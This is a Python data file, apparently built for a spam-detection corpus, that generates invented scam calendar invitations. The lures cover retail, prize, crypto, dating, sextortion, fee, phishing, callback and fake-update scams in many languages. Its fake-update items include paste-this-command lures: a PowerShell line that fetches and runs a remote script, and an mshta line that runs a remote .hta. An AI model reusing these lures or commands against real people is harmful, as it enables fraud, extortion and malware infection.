# -*- coding: utf-8 -*-
"""Spam side of holdout29.  All text invented for this corpus."""
import lib_fake as fk
from data_util import I, C, F, lookalike, slug, php, pylib, node, dotnet, bulk, esp

TG = ["support_desk", "vip_mentor", "hr_team", "assist", "invest_club", "helpcenter", "career_hub", "manager_line"]


def sfill(rng, m, V, it):
    lang = m["lang"]
    V["rlook"] = lookalike(rng, V["rdomain"])
    V["rslug"] = slug(V["rdomain"])
    if it.get("ud"):
        dom = F(it["ud"], V)
        V["udom"] = dom
        V["url"] = "https://" + dom + fk.path(rng)
    elif it.get("uk"):
        V["url"] = fk.abuse_url(rng, it["uk"])
        V["udom"] = V["url"].split("/")[2]
    else:
        V["udom"] = fk.bad_domain(rng, it.get("brand"))
        V["url"] = "https://" + V["udom"] + fk.path(rng)
    V["url2"] = fk.abuse_url(rng)
    V["tfn"] = fk.phone(rng, "tollfree")
    V["amt"] = fk.money(rng, lang, 19, 499)
    V["wa"] = "https://wa.me/%d" % rng.randint(10 ** 10, 10 ** 12)
    V["tg"] = "https://t.me/%s_%s" % (rng.choice(TG), fk.tok(rng, 4))
    V["inv"] = "%s-%d" % (rng.choice(["INV", "ORD", "TXN", "BIL"]), rng.randint(100000, 9999999))
    V["eth"] = fk.eth(rng)
    V["usdt"] = fk.usdt_trc(rng)


def mass_hook(rng, m, atts):
    """add hundreds of unrelated attendees from many domains"""
    import data_common as dc
    n = m["it"].get("mass", 200)
    doms = ["example.com", "example.org", "example.net"] + [d for v in dc.RCPT_DOMAINS.values() for d in v]
    seen = set(a["email"] for a in atts)
    langs = list(dc.NAMES.keys())
    while len(atts) < n:
        lg = rng.choice(langs)
        f, l, full = dc.person(rng, lg)
        e = "%s@%s" % (dc.local_part(f, l, lg, rng), rng.choice(doms))
        if e in seen:
            e = e.replace("@", "%d@" % rng.randint(2, 99))
        if e in seen:
            continue
        seen.add(e)
        atts.append(dict(name="" if rng.random() < 0.7 else full, email=e, partstat="NEEDS-ACTION", role="REQ-PARTICIPANT", rsvp=True))
    rng.shuffle(atts)


TEN = "{rslug}"

# =====================================================================
RETAIL = C("retail-sale", "retail sale / outlet / discount wave sent as a calendar invitation", fill=sfill, off=(0, 3), items=[
    I("en", "icloud", "free", "Ray-Ban Sunglasses Clearance - Up To 88% Off Today Only",
      "Official clearance event.\nAll models from $19.99 - free worldwide shipping.\nShop now: {url}",
      ud="rb-sunglass-outlet.shop", fn="Outlet Store", desc="sunglasses clearance pushed through an iCloud invite"),
    I("en", "google", "free", "Dyson Airwrap early Black Friday - $89 (VIP list)",
      "Hi {rname}, you're on our early-access list.\n\nDyson Airwrap Complete: $89 (was $599). 37 units left.\n\nReserve yours before the timer runs out.",
      loc="{url}", ud="dyson-vip-deals.store", desc="early Black Friday lure, link only in LOCATION"),
    I("en", "apple", "free", "UGG Winter Clearance", "", url="{url}", ud="ugg-clearance-{n4}.top",
      body_note="", alarms=["-PT5M"], desc="UGG clearance, payload only in the URL property of the .ics"),
    I("en", "booking", "esp", "Pandora closing-down sale: charms 70% off",
      "Final week of our store closure. Every charm, bracelet and ring 70% off while stock lasts.\n{url}",
      ud="pandora-closing-sale.online", dom="pandora-outlet-mail.com", fa="news@{sdomain}", fn="Pandora Outlet", gen=esp("Pandora Outlet", "sale.ics"), method="PUBLISH", desc="jewellery closing-down sale mailed through an ESP"),
    I("en", "handrolled", "vps", "Your 80% OFF coupon for Michael Kors bags",
      "Coupon inside", h='<html><body><a href="{url}"><img src="https://{udom}/img/mk-banner.jpg" width="600" alt="Michael Kors 80% OFF"></a>'
      '<p style="font-size:11px">Unsubscribe</p></body></html>', ud="mk-bag-sale.{n4}shop.top",
      gen=bulk(), body_text="Coupon code: MK80\r\nValid today only.\r\n", dom="dealmail-{n4}.top", fn="MK Outlet",
      desc="bag coupon; link only inside X-ALT-DESC, sloppy hand-rolled .ics"),
    I("en", "booking", "lookalike", "Nike Factory Store - final day of 75% off",
      "Your saved items are now 75% off. Final day.\nOrder: {url}", dom="nike-factory-outlet.shop", fa="orders@{sdomain}",
      fn="Nike Factory Store", ud="nike-factory-outlet.shop", gen=esp("Nike Factory Store", "sale.ics"), method="PUBLISH",
      body_html='<html><body style="font-family:Helvetica"><h1>JUST DO IT. -75%</h1><p>Final day. <a href="{url}">Shop the sale</a></p></body></html>',
      desc="sportswear sale from a registered look-alike shop domain via an ESP"),
    I("de", "google", "free", "Ray-Ban Sonnenbrillen Ausverkauf – heute 85 % Rabatt",
      "Nur heute: alle Modelle ab 16,99 €.\nKostenloser Versand nach Deutschland, Österreich und in die Schweiz.\n{url}",
      ud="rayban-de-sale.shop", fn="Sonnenbrillen Outlet", desc="German sunglasses clearance via Google Calendar"),
    I("fr", "google", "free", "Soldes Longchamp -70 % : derniers jours",
      "Bonjour {rname},\nLes sacs Le Pliage sont à -70 % jusqu'à dimanche. Livraison offerte.\nBoutique : {url}",
      ud="longchamp-soldes.shop", desc="French handbag sale invite"),
    I("ja", "icloud", "free", "【期間限定】ブランドバッグ 最大90%OFF セール開催中",
      "人気ブランドのバッグ・財布が最大90%OFF！\n本日23:59まで。\n公式アウトレット：{url}", ud="brand-outlet-jp.top", fn="ブランドアウトレット",
      desc="Japanese brand-bag sale via iCloud"),
    I("zh", "google", "free", "双十一特卖：名牌手表一折起，包邮", "限时抢购，正品保证，货到付款。\n立即选购：{url}\n客服微信：watch{n4}",
      ud="mingbiao-tm.shop", desc="Chinese watch sale invite"),
    I("es", "o365", "lookalike", "Liquidación total Skechers -80 %", "Cierre de almacén. Todas las tallas disponibles.\nCompra aquí: {url}",
      dom="{n4}skx.onmicrosoft.com", ms_dkim="tenant", tenant="skx{n4}", ud="skechers-liquidacion.store",
      fn="Skechers Outlet", desc="Spanish shoe sale from a throwaway Microsoft 365 tenant"),
    I("nl", "sogo", "compromised", "Uitverkoop LEGO-sets tot -75%", "Opheffingsuitverkoop van onze webwinkel.\nBekijk de sets: {url}",
      ud="lego-uitverkoop.shop", desc="Dutch toy sale from a compromised SOGo mailbox"),
])

PRIZE = C("prize-gift-lure", "prize, survey and gift-card lures", fill=sfill, off=(0, 5), items=[
    I("en", "google", "free", "Congratulations {rname}! You've been selected - Walmart $750 gift card",
      "Complete a short 4-question survey to claim. Only 3 rewards remaining in your area.",
      loc="Claim here: {url}", uk="sites", desc="gift-card survey lure, link in LOCATION"),
    I("en", "o365", "lookalike", "Customer loyalty reward - Costco",
      "As a valued member you qualify for a loyalty bonus. Delivery fee only.", att=[("{url}", "application/pdf", "Reward_Voucher.pdf")],
      dom="rewardsteam{n4}.onmicrosoft.com", ms_dkim="tenant", tenant="rewardsteam{n4}", fn="Costco Member Rewards",
      uk="blob", desc="loyalty reward lure from a fresh M365 tenant, link as ATTACH"),
    I("en", "zimbra", "compromised", "Amazon Prime member survey - $100 reward",
      "Dear Prime member,\n\nYou have been chosen to take part in our 30-second satisfaction survey. Participants receive a $100 reward.\n\nStart: {url}",
      dom="mail.wexford-college.edu", fn="Amazon Rewards", uk="firebase", desc="Prime survey lure from a compromised university Zimbra account"),
    I("en", "icloud", "free", "Apple Rewards: 4,280 points expire today",
      "Your points can be exchanged for AirPods Pro. Pay only $2.95 shipping.\n\n{url}", ud="apple-rewards-center.online",
      fn="Apple Rewards", alarms=["-PT1H", "-PT10M"], desc="points-expiry lure via iCloud"),
    I("en", "booking", "esp", "You won! YETI Tundra 45 cooler", "Winner notification #{ref}. Shipping fee $1.95.",
      dom="prizepanel-mail.com", fa="winners@{sdomain}", fn="YETI Giveaway", uk="r2", gen=esp("PrizePanel", "winner.ics"),
      method="PUBLISH", body_html='<html><body><h2>You have won!</h2><p>Confirm your address and pay $1.95 shipping.</p><p><a href="{url}">CLAIM NOW</a></p></body></html>',
      desc="cooler prize through an abused ESP"),
    I("en", "nextcloud", "compromised", "Lowe's Customer Appreciation: 30 sec survey",
      "Thank you for being a Lowe's customer. Tell us about your last visit and choose your reward.", url="{url}",
      dom="kanzlei-meier-partner.de", nc_name="Nextcloud", uk="pages", wrap="list", list=dict(domain="lists.harbourview.example", name="residents", tag="Residents", munge=False, software="mailman2"), desc="survey lure from a compromised Nextcloud instance"),
    I("pt", "teams", "lookalike", "Parabéns! Você ganhou um iPhone 16 Pro",
      "Olá {rname},\nSeu número de cliente foi sorteado. Confirme seus dados e pague apenas o frete de R$ 9,90.\n{url}",
      dom="premiosbr{n4}.onmicrosoft.com", ms_dkim="tenant", tenant="premiosbr{n4}", fn="Central de Prêmios", uk="webapp",
      desc="Portuguese iPhone prize via Teams invite"),
    I("it", "yahoo", "free", "Esselunga: buono da 500€ per i clienti fedeli",
      "Gentile cliente,\nper festeggiare il nostro anniversario regaliamo buoni spesa da 500€. Rispondi a 3 domande.\n{url}",
      ud="esselunga-premi.online", fn="Esselunga Premi", desc="Italian supermarket voucher lure"),
    I("pl", "handrolled", "spoof", "Biedronka – karta podarunkowa 1000 zł",
      "Gratulacje! Zostałeś wybrany do odbioru karty podarunkowej o wartości 1000 zł.\nOdbierz: {url}",
      dom="biedronka-nagrody.pl", fa="nagrody@{sdomain}", fn="Biedronka", ud="biedronka-karta.online",
      env_from="bounce@vps{n4}.cloudhost.example", gen=php(prodid="-//Biedronka//Nagrody//PL"), cs="iso-8859-2",
      desc="Polish supermarket gift card, spoofed sender"),
    I("tr", "google", "free", "Tebrikler! Migros hediye çeki kazandınız",
      "Merhaba {rname},\n1.500 TL değerindeki hediye çekiniz hazır. Kargo ücreti 14,90 TL.\nHemen alın: {url}", uk="sites",
      desc="Turkish voucher lure"),
    I("ar", "outlook", "lookalike", "مبروك! لقد تم اختيارك للفوز بجائزة نقدية",
      "عزيزي العميل،\nتم اختيار رقم حسابك في السحب الشهري. للمطالبة بالجائزة يرجى تأكيد بياناتك خلال 24 ساعة.\n{url}",
      dom="stc-rewards-sa.com", fn="برنامج المكافآت", ud="stc-rewards-sa.com", desc="Arabic cash prize from look-alike domain"),
    I("ko", "google", "free", "축하합니다! 신세계 상품권 50만원 당첨 안내",
      "고객님께서 이벤트에 당첨되셨습니다.\n배송비 3,000원 결제 후 수령 가능합니다.\n{url}", ud="ssg-event-gift.shop",
      desc="Korean department-store voucher lure"),
])

CRYPTO = C("crypto-investment", "crypto, trading and investment fraud", fill=sfill, off=(0, 6), items=[
    I("en", "google", "free", "Pending withdrawal 0.8471 BTC - confirm within 24h",
      "A withdrawal to your external wallet is pending. If you did not initiate this, cancel here: {url}\nTicket #{ref}",
      ud="coinvault-secure.com", fn="CoinVault Security", desc="fake pending crypto withdrawal"),
    I("en", "teams", "lookalike", "Private briefing: AI arbitrage fund (18% monthly)",
      "Hi {rname},\nAs discussed, here is the invite for the private briefing. Minimum allocation $2,500. Onboarding form: {url}",
      dom="quantaedge-capital.com", fn="Daniel Reid | QuantaEdge Capital", ud="quantaedge-capital.com",
      desc="AI trading fund pitch as Teams meeting"),
    I("en", "zoom", "corp", "Crypto Wealth Masterclass - live Q&A", "Learn the 3-step system our members use to earn $1,000+ per day.",
      method="PUBLISH", fn="Wealth Academy", dom="wealthacademy-live.com", desc="crypto masterclass via Zoom webinar registration"),
    I("en", "thunderbird", "vps", "Tesla x Bitcoin giveaway livestream",
      "Send any amount between 0.01 and 2 BTC to the address below and receive double back.\n\n{btc}\n\nLivestream: {url}",
      dom="tsla-event{n4}.live", ud="tsla-event{n4}.live", desc="doubling giveaway from a VPS"),
    I("en", "icloud", "free", "Unclaimed staking rewards on your account",
      "Your account has $1,932.40 in unclaimed ETH staking rewards. Connect your wallet to claim before the epoch closes.",
      conf=["{url}"], conf_label="Claim portal", ud="cb-rewards-claim.app", desc="staking rewards lure, link in CONFERENCE"),
    I("en", "yahoo", "free", "Protect your retirement: Gold IRA consultation",
      "Hello {rname},\nBook your free consultation and receive our Gold Investor Kit. Call {tfn} or visit {url}.",
      ud="goldsafe-ira.info", desc="gold IRA pitch from free mail"),
    I("ru", "o365", "free", "Пассивный доход от 150 000 ₽ в месяц — презентация платформы",
      "Добрый день!\nПриглашаем на закрытую презентацию инвестиционной платформы. Старт с 25 000 ₽.\nРегистрация: {url}\nМенеджер в Telegram: {tg}",
      dom="outlook.com", desc="Russian passive-income pitch from outlook.com"),
    I("de", "handrolled", "lookalike", "Ihre Krypto-Auszahlung über 4.870 € steht bereit",
      "Sehr geehrte/r {rfull},\nIhre Auszahlung wurde freigegeben. Bitte bestätigen Sie Ihre Identität innerhalb von 48 Stunden: {url}",
      dom="bitpanda-auszahlung.de", fa="service@{sdomain}", fn="Auszahlungsservice", ud="bitpanda-auszahlung.de",
      gen=dotnet(), cs="iso-8859-15", desc="German crypto payout lure"),
    I("zh", "google", "free", "【内部消息】股票交流群 免费入群", "每日牛股推荐，老师实盘带单。\n添加助理微信入群：gp{n4}\n或点击：{url}",
      uk="short", desc="Chinese stock-tip group lure"),
    I("hi", "zimbra", "compromised", "क्रिप्टो निवेश: 30 दिनों में पैसा दोगुना",
      "नमस्ते {rname},\nहमारी नई योजना में ₹10,000 से शुरुआत करें। सीमित सीटें।\nव्हाट्सएप पर जुड़ें: {wa}", dom="mail.svcollege.ac.in",
      desc="Hindi crypto doubling scheme from compromised college Zimbra"),
    I("th", "booking", "esp", "ลงทุนทองคำ ผลตอบแทน 20% ต่อเดือน",
      "สัมมนาออนไลน์ฟรี เรียนรู้การลงทุนทองคำกับผู้เชี่ยวชาญ\nลงทะเบียน: {url}\nไลน์: @gold{n4}", dom="goldthai-invest.com",
      fa="event@{sdomain}", fn="Gold Thai Invest", gen=esp("GoldThai", "seminar.ics"), method="PUBLISH",
      body_html='<html><body><h2>ลงทุนทองคำ</h2><p><a href="{url}">ลงทะเบียนฟรี</a></p></body></html>', cs="windows-874", desc="Thai gold investment seminar"),
    I("es", "nextcloud", "vps", "Invierta 250 € y gane hasta 5.000 € con IA",
      "Plataforma automática de trading con inteligencia artificial. Un asesor le llamará hoy.\n{url}",
      dom="ia-inversion{n4}.es", ud="ia-inversion{n4}.es", desc="Spanish AI trading pitch from a VPS Nextcloud"),
])

DATING = C("dating-sextortion", "dating lures and sextortion", fill=sfill, off=(0, 2), items=[
    I("en", "icloud", "free", "Jessica (26) sent you 3 private photos", "She is waiting for your reply. See them here: {url}",
      ud="hotmatch-{n4}.live", fn="Jessica", desc="dating photo lure via iCloud"),
    I("en", "google", "free", "are you free tonight? 😉", "hey it's me from the app, my profile got deleted lol. message me here {url}",
      uk="short", fn="Ashley", desc="short casual dating lure"),
    I("en", "handrolled", "spoof", "I know what you did. Read this before it's too late",
      "Hi {rname},\nI have had access to your device for months. I recorded you through your camera while you were visiting certain websites. "
      "Send $1,450 in Bitcoin to {btc} within 48 hours or the video goes to all your contacts.\nThe timer started when you opened this.",
      fa="{remail}", dom="{rdomain}", fn="", gen=pylib(), desc="sextortion spoofing the recipient's own address"),
    I("en", "outlook", "compromised", "Payment required - your recordings",
      "This is not spam. Your password was leaked. I have a video of you. Pay 0.025 BTC to {btc}. You have 2 days.",
      desc="sextortion through a compromised SMTP account"),
    I("en", "booking", "esp", "Lonely wives near {rdomain}", "Real women, no fake profiles. Sign up free tonight: {url}",
      ud="meet-local-{n4}.club", fn="Local Dates", dom="datemail-{n4}.com", fa="matches@{sdomain}", gen=esp("LocalDates", "date.ics"), method="PUBLISH", desc="adult dating lure"),
    I("ru", "apple", "free", "Маша хочет с тобой познакомиться", "Привет! Я видела твой профиль. Напиши мне тут 👉 {url}",
      ud="znakomstva-{n4}.ru.com", dom="mail.ru", fn="Маша", desc="Russian dating lure"),
    I("fr", "thunderbird", "free", "Rencontre discrète ce soir ?", "Salut, je suis à 3 km de chez toi. Mes photos : {url}",
      ud="rencontres-discretes.fr.club", fn="Léa", desc="French discreet-dating lure"),
    I("he", "google", "free", "מישהי רוצה להכיר אותך", "היי, ראיתי את הפרופיל שלך ואשמח לדבר. התמונות שלי כאן: {url}",
      uk="glitch", fn="נועה", desc="Hebrew dating lure"),
    I("el", "o365", "free", "Έχω βίντεο σου", "Γνωρίζω τον κωδικό σου. Έχω καταγράψει βίντεο από την κάμερά σου. Στείλε 1.200 € σε Bitcoin στη διεύθυνση {btc} μέσα σε 48 ώρες.",
      dom="hotmail.com", desc="Greek sextortion via outlook.com"),
    I("ja", "handrolled", "spoof", "【至急】あなたの秘密の動画について", "あなたのデバイスをハッキングしました。動画を公開されたくなければ、48時間以内に以下のアドレスへビットコインを送金してください。\n{btc}",
      fa="{remail}", dom="{rdomain}", fn="", gen=dotnet(), cs="iso-2022-jp", desc="Japanese sextortion"),
    I("it", "sogo", "compromised", "Incontri riservati nella tua città", "Donne single vicino a te cercano incontri senza impegno.\nIscriviti gratis: {url}",
      ud="incontri-veri.{n4}.club", desc="Italian dating lure from compromised SOGo"),
])

FEE = C("fee-scam", "delivery, toll, tax and fine fee scams", fill=sfill, off=(0, 3), items=[
    I("en", "booking", "lookalike", "USPS: Redelivery scheduled - address update required",
      "Your package could not be delivered due to an incomplete address. A $1.99 redelivery fee applies.\nUpdate: {url}",
      dom="usps-redelivery-center.com", fa="noreply@{sdomain}", fn="USPS Tracking", ud="usps-redelivery-center.com/track",
      gen=esp("USPS Redelivery", "delivery.ics"), method="PUBLISH",
      body_html='<html><body><h3>USPS Tracking&reg;</h3><p>Status: <b>Delivery attempt failed</b></p><p><a href="{url}">Schedule redelivery</a></p></body></html>',
      desc="parcel redelivery fee from a look-alike domain"),
    I("en", "booking", "vps", "E-ZPass: unpaid toll balance $6.85", "Avoid a $50.00 late fee. Pay your outstanding toll today: {url}",
      dom="ezpass-tollpay.com", fa="notice@{sdomain}", fn="E-ZPass Customer Service", ud="ezpass-tollpay{n4}.top",
      gen=esp("TollPay", "notice.ics"), method="PUBLISH", desc="unpaid toll notice from a VPS"),
    I("en", "icloud", "free", "IRS: Tax refund of $1,240.55 awaiting confirmation",
      "Our records show you are eligible for a refund. Confirm your bank details to receive it within 3 business days.", url="{url}",
      ud="irs-refund-status.info", fn="IRS Refunds", desc="tax refund lure via iCloud"),
    I("en", "handrolled", "spoof", "DHL Express: customs duty payment required",
      "Shipment AWB {ref}{n4} is held at customs. Duty due: $3.40. Pay online: {url}", dom="dhl.com", fa="noreply@{sdomain}",
      fn="DHL Express", ud="dhl-customs-pay.online", env_from="info@{n4}mailer.cloudhost.example", gen=php(prodid="-//DHL//Tracking//EN"),
      desc="DHL customs fee, spoofed brand sender"),
    I("en", "o365", "lookalike", "Royal Mail: parcel held - £2.99 fee",
      "We tried to deliver your parcel today. To rebook delivery please pay the £2.99 shipping charge.\n{url}",
      dom="royalmail-rebook.co.uk", ud="royalmail-rebook.co.uk", fn="Royal Mail", desc="UK parcel fee from look-alike tenant"),
    I("en", "booking", "lookalike", "DVLA: vehicle tax payment failed", "Your last vehicle tax payment was declined. Update your card to avoid a penalty.\n{url}",
      dom="dvla-vehicletax.co.uk", fa="no-reply@{sdomain}", fn="DVLA", gen=esp("DVLA", "reminder.ics"), method="PUBLISH",
      ud="dvla-vehicletax.co.uk", desc="UK vehicle tax lure"),
    I("es", "thunderbird", "vps", "Correos: su paquete está retenido",
      "Estimado cliente,\nsu envío está pendiente del pago de 1,99 € en concepto de gastos de aduana.\nPague aquí: {url}",
      dom="correos-envios{n4}.es", ud="correos-envios{n4}.es", fn="Correos", desc="Spanish parcel fee"),
    I("nl", "google", "free", "PostNL: uw pakket kon niet worden bezorgd", "Plan een nieuwe bezorging in. Kosten: € 1,25.\n{url}",
      uk="canva", fn="PostNL Bezorging", desc="Dutch parcel fee"),
    I("pl", "booking", "lookalike", "InPost: dopłata 1,50 zł do przesyłki", "Twoja paczka czeka w paczkomacie. Dopłać 1,50 zł, aby odebrać.\n{url}",
      dom="inpost-doplata.pl", fa="powiadomienia@{sdomain}", fn="InPost", gen=esp("InPost", "paczka.ics"), method="PUBLISH",
      ud="inpost-doplata.pl", cs="iso-8859-2", desc="Polish parcel locker fee"),
    I("pt", "yahoo", "free", "Receita Federal: restituição disponível", "Sua restituição do IRPF está liberada. Confirme seus dados bancários: {url}",
      ud="restituicao-receita.online", fn="Receita Federal", desc="Brazilian tax refund lure"),
    I("ko", "apple", "free", "[국민건강보험] 환급금 조회 안내", "고객님께 미지급 환급금 128,400원이 있습니다. 아래 링크에서 조회하세요.\n{url}",
      ud="nhis-refund.kr.top", dom="daum.net", desc="Korean health-insurance refund lure"),
    I("he", "nextcloud", "compromised", "דואר ישראל: חבילה ממתינה לתשלום מכס", "החבילה שלך מעוכבת. יש לשלם 9.90 ₪ דמי מכס: {url}",
      ud="israelpost-pay.online", desc="Hebrew customs fee"),
])

PHISH = C("credential-phish", "credential phishing under big brands", fill=sfill, off=(0, 2), items=[
    I("en", "google", "compromised", "Microsoft 365: password expires today",
      "Your password for {remail} expires today. Keep your current password: {url}", dom="harborpoint-dental.com",
      uk="webapp", fn="IT Service Desk", desc="M365 expiry phish via a compromised Workspace account"),
    I("en", "o365", "compromised", "Please DocuSign: Q3 Vendor Agreement",
      "{sname} sent you a document to review and sign.\n\nREVIEW DOCUMENT\n\nDo not share this email. Powered by DocuSign.",
      att=[("{url}", "application/pdf", "Q3_Vendor_Agreement.pdf")], uk="notion", desc="DocuSign lure, link as ATTACH"),
    I("en", "teams", "lookalike", "HR: Benefits enrolment 2025 - action required",
      "All staff must confirm their benefit elections before Friday. Sign in to the benefits portal: {url}", dom="{rlook}",
      fn="HR Benefits", ud="benefits-{rslug}.com", desc="benefits phish from a look-alike of the recipient's domain"),
    I("en", "handrolled", "spoof", "PayPal: unusual sign-in - account limited",
      "", h='<p>We noticed a new login from Lagos, NG.</p><p><a href="{url}">Review activity</a></p>', dom="paypal.com",
      fa="service@{sdomain}", fn="PayPal", ud="paypal-resolution-{n4}.com", gen=node(), body_text="We noticed unusual activity.",
      env_from="mailer@{n4}.vps.cloudhost.example", desc="PayPal phish, link only in X-ALT-DESC"),
    I("en", "icloud", "free", "Adobe Acrobat: 'Invoice_3321.pdf' shared with you", "Open the secure document with your email credentials.",
      url="{url}", uk="ipfs", fn="Adobe Document Cloud", desc="Adobe share phish"),
    I("en", "sogo", "compromised", "Dropbox: file request from {sname}", "{sname} has requested that you review 'Signed_PO_{n4}.pdf'.\nView file: {url}",
      uk="r2", desc="Dropbox share phish from compromised SOGo"),
    I("en", "booking", "esp", "Chase: verify your identity to restore access",
      "We've placed a temporary hold on your online access. Verify now to avoid closure.\n{url}", dom="chase-secure-alerts.com",
      fa="alerts@{sdomain}", fn="Chase Online", gen=esp("Alerts", "verify.ics"), method="PUBLISH", ud="chase-secure-alerts.com",
      body_html='<html><body><p>Dear customer,</p><p>For your security we placed a hold on your account.</p><p><a href="{url}">Verify identity</a></p></body></html>',
      desc="bank phish via ESP"),
    I("de", "o365", "compromised", "Ihr Postfach ist voll – Speicher erweitern",
      "Ihr Postfach {remail} hat 99 % der Kapazität erreicht. Eingehende E-Mails werden zurückgewiesen.\nSpeicher jetzt kostenlos erweitern: {url}",
      uk="sway", fn="Microsoft Outlook", desc="German mailbox-full phish"),
    I("fr", "zimbra", "compromised", "Votre compte de messagerie sera désactivé",
      "Cher utilisateur,\nvotre compte sera désactivé sous 24 h suite à une mise à jour de sécurité. Validez votre compte : {url}",
      dom="univ-sainte-marthe.fr", fn="Service Informatique", uk="weebly", desc="French webmail phish from compromised university"),
    I("ja", "google", "free", "【Amazon】アカウント情報の確認のお願い",
      "お客様のアカウントで異常なログインが検出されました。24時間以内に情報を更新してください。\n{url}", ud="amazon-co-jp.account-{n4}.top",
      desc="Japanese Amazon phish"),
    I("ar", "outlook", "compromised", "تحديث بيانات الحساب البنكي",
      "عميلنا العزيز، يرجى تحديث بيانات حسابك لتجنب إيقاف الخدمات المصرفية عبر الإنترنت.\n{url}",
      ud="alrajhi-update.online", desc="Arabic bank phish"),
    I("tr", "apple", "free", "e-Devlet: hesabınız askıya alındı", "Kimlik doğrulaması yapılmadığı için hesabınız askıya alınmıştır. Doğrulama: {url}",
      ud="turkiye-edevlet-giris.com", dom="icloud.com", desc="Turkish government portal phish"),
    I("el", "nextcloud", "compromised", "Σημαντικό: επαλήθευση λογαριασμού Microsoft 365",
      "Ο λογαριασμός σας θα απενεργοποιηθεί. Επαληθεύστε τα στοιχεία σας: {url}", uk="github", desc="Greek M365 phish"),
    I("zh", "zimbra", "compromised", "您的企业邮箱即将过期，请立即升级", "尊敬的用户：您的邮箱 {remail} 将于今日过期。请点击升级：{url}",
      uk="gcs", fn="系统管理员", desc="Chinese mailbox-expiry phish"),
])

CALLBACK = C("callback-scam", "subscription-renewal and tech-support callback scams (phone number only)", fill=sfill, off=(0, 2), items=[
    I("en", "booking", "vps", "Invoice #GS-48213: Geek Squad Total Protection renewed",
      "Thank you for renewing. Amount charged: $399.99.\nIf you did not authorise this charge call billing at {tfn} within 24 hours.",
      dom="gs-billing-dept.com", fa="billing@{sdomain}", fn="Geek Squad Billing", gen=esp("Billing", "invoice.ics"), method="PUBLISH",
      body_html='<html><body><table><tr><td>Invoice</td><td>GS-48213</td></tr><tr><td>Total</td><td>$399.99</td></tr></table>'
      '<p>Questions? Call {tfn}</p></body></html>', desc="Geek Squad renewal callback scam"),
    I("en", "icloud", "free", "Norton 360 Deluxe auto-renewal successful", "Order {inv}. $349.99 has been debited. To cancel and receive a refund call {tfn}.",
      fn="Norton Billing", desc="Norton renewal callback"),
    I("en", "yahoo", "free", "PayPal: you sent $749.00 USD to Coinbase Inc.", "Transaction ID {ref}{n4}. Not you? Call PayPal Support {tfn}.",
      fn="PayPal Service", desc="fake PayPal payment callback"),
    I("en", "outlook", "free", "McAfee LiveSafe - order confirmation", "Your subscription renewed for 3 devices. Amount $299.99. Helpline: {tfn}",
      dom="outlook.com", fn="McAfee Support", desc="McAfee callback via outlook.com"),
    I("en", "handrolled", "vps", "Amazon: your order of Apple iPhone 15 Pro has shipped",
      "Order #{ref}-{n4} total $1,299.00. If you did not place this order call {tfn} immediately.",
      dom="amz-orderdesk.com", fa="orders@{sdomain}", fn="Amazon.com", gen=php(prodid="-//Orders//EN", ccte="base64", lf_ics=True),
      desc="fake order confirmation callback; LF-only .ics inside base64"),
    I("en", "zimbra", "compromised", "Windows Defender security subscription expired",
      "Your PC protection expired today. Renewal charge $499.99 will be processed. For cancellation dial {tfn}.",
      dom="mail.lakeshore-cc.edu", fn="Microsoft Support", desc="Defender callback from compromised Zimbra"),
    I("de", "google", "free", "Ihre Bestellung: Norton AntiVirus Plus 349,99 €",
      "Vielen Dank für Ihre Bestellung. Der Betrag wird heute abgebucht. Bei Fragen oder zur Stornierung rufen Sie uns an: {tfn}",
      desc="German Norton callback"),
    I("fr", "thunderbird", "free", "Facture : abonnement McAfee renouvelé", "Montant prélevé : 289,99 €. Pour toute réclamation, appelez le {tfn}.",
      fn="Service Facturation", desc="French McAfee callback"),
    I("es", "teams", "lookalike", "Confirmación de pedido: AppleCare+ 299,00 €",
      "Su pedido ha sido procesado. Si no reconoce este cargo, llame al {tfn} para anularlo.", dom="soporte{n4}.onmicrosoft.com",
      ms_dkim="tenant", tenant="soporte{n4}", fn="Apple Facturación", desc="Spanish AppleCare callback via Teams"),
    I("hi", "apple", "free", "आपका सब्सक्रिप्शन नवीनीकृत हो गया है", "₹24,999 आपके खाते से काटे गए हैं। रद्द करने के लिए कॉल करें: {tfn}",
      dom="icloud.com", desc="Hindi subscription callback"),
    I("pt", "handrolled", "vps", "Renovação automática — Kaspersky Premium", "Valor cobrado: R$ 1.249,00. Para cancelar ligue {tfn}.",
      dom="kaspersky-faturas.com", fa="faturamento@{sdomain}", fn="Kaspersky", gen=dotnet(), cs="windows-1252",
      desc="Portuguese antivirus callback"),
])

UPDATE = C("fake-update", "fake meeting-client updates and paste-this-command lures", fill=sfill, off=(0, 1), items=[
    I("en", "teams", "lookalike", "Project sync - {rcompany}",
      "Hi,\nyour Teams client is out of date and cannot join this meeting. Install the update first: {url}",
      dom="{rlook}", ud="teams-update-cdn.com", desc="Teams invite whose body demands a client update"),
    I("en", "handrolled", "lookalike", "Zoom: your meeting is waiting - install Zoom Workplace 6.2",
      "", conf=["{url}"], conf_label="Join Zoom Meeting", dom="zoom-meetings-us.com", fa="no-reply@{sdomain}", fn="Zoom",
      ud="zoom-meetings-us.com/download", gen=node(), body_text="You have a meeting in progress.",
      desc="fake Zoom update, link only in CONFERENCE"),
    I("en", "google", "free", "Quick verification before our call",
      "To join the call please verify you are human:\n1. Press Win + R\n2. Paste: powershell -w h -c \"iwr {udom}/v.ps1 | iex\"\n3. Press Enter",
      ud="cdn-verify-human.com", desc="paste-this-command lure"),
    I("en", "o365", "compromised", "Board prep call", "Agenda and pre-read attached. Please install the meeting add-in before joining.",
      att=[("{url}", "application/zip", "Meeting_Agenda.zip")], ud="{rslug}-boardportal.com", desc="meeting-addin lure from compromised mailbox"),
    I("en", "thunderbird", "vps", "Browser update required for secure video call",
      "Your browser does not support encrypted video. Download the update: {url}", dom="securevideo{n4}.net", ud="securevideo{n4}.net",
      desc="fake browser update"),
    I("ru", "nextcloud", "compromised", "Обновление клиента видеоконференции",
      "Для участия в совещании установите обновление клиента: {url}", ud="vks-update.ru.com", desc="Russian client-update lure"),
    I("ko", "o365", "lookalike", "[보안] 화상회의 프로그램 업데이트 필요", "회의 참석 전 보안 업데이트를 설치해 주세요.\n{url}",
      dom="{rlook}", ud="meeting-update-kr.com", cs="ks_c_5601-1987", desc="Korean meeting-client update lure"),
    I("it", "zimbra", "compromised", "Aggiornamento obbligatorio di Microsoft Teams",
      "Per partecipare alla riunione è necessario aggiornare Teams: {url}", ud="teams-aggiornamento.com", desc="Italian Teams update lure"),
    I("th", "google", "free", "ยืนยันว่าคุณไม่ใช่บอท", "กด Win + R แล้ววางคำสั่งนี้:\nmshta https://{udom}/c.hta\nจากนั้นกด Enter",
